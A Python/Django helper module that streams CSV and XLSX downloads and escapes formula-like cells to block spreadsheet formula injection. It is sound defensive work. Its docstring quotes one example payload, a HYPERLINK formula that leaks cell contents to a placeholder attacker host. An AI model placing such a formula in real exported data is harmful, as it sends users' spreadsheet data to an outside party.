"""Spreadsheet downloads (CSV and XLSX) that never carry a live formula.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, through some import paths, tab or carriage return) as a formula, so an
issue titled ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would be a
working link that leaks the sheet. OWASP's "CSV Injection" guidance: prefix
such text with a single quote. Numbers are never touched: ``-3`` stays a number.

In CSV the quote is part of the text (it is all a CSV cell can carry). In
XLSX the cell is written as a string with Excel's own *quote prefix* style,
which is what Excel does itself when someone types ``'=1+1``: it shows the
text exactly as written and will not turn it into a formula when edited.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet would read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet runs (text gets a leading ``'``)."""
    if is_formula_like(value):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write() hands the line back, for streaming csv.writer."""

    def write(self, value: str) -> str:
        return value


def csv_response(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, filename: str
) -> StreamingHttpResponse:
    """Stream rows as a CSV download, UTF-8 with a BOM so Excel opens Korean text.

    ``rows`` may be a generator over a database iterator: nothing is held in
    memory, so a 20,000-row export starts at once.
    """
    writer = csv.writer(_Echo())

    def lines():
        yield "\ufeff" + writer.writerow([safe_cell(value) for value in header])
        for row in rows:
            yield writer.writerow([safe_cell(value) for value in row])

    response = StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    filename: str,
    sheet_title: str = "",
    column_widths: dict[str, int] | None = None,
) -> HttpResponse:
    """One sheet as an XLSX download; text that looks like a formula stays text."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING

    workbook = Workbook()
    sheet = workbook.active
    if sheet_title:
        sheet.title = sheet_title[:31]  # Excel's limit for sheet names
    for row in [header, *rows]:
        sheet.append(list(row))
        for cell in sheet[sheet.max_row]:
            if is_formula_like(cell.value) or cell.data_type == "f":
                # openpyxl turned the text into a formula on append; make it text again.
                cell.data_type = TYPE_STRING
                cell.quotePrefix = True
    for column, width in (column_widths or {}).items():
        sheet.column_dimensions[column].width = width
    response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
    workbook.save(response)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
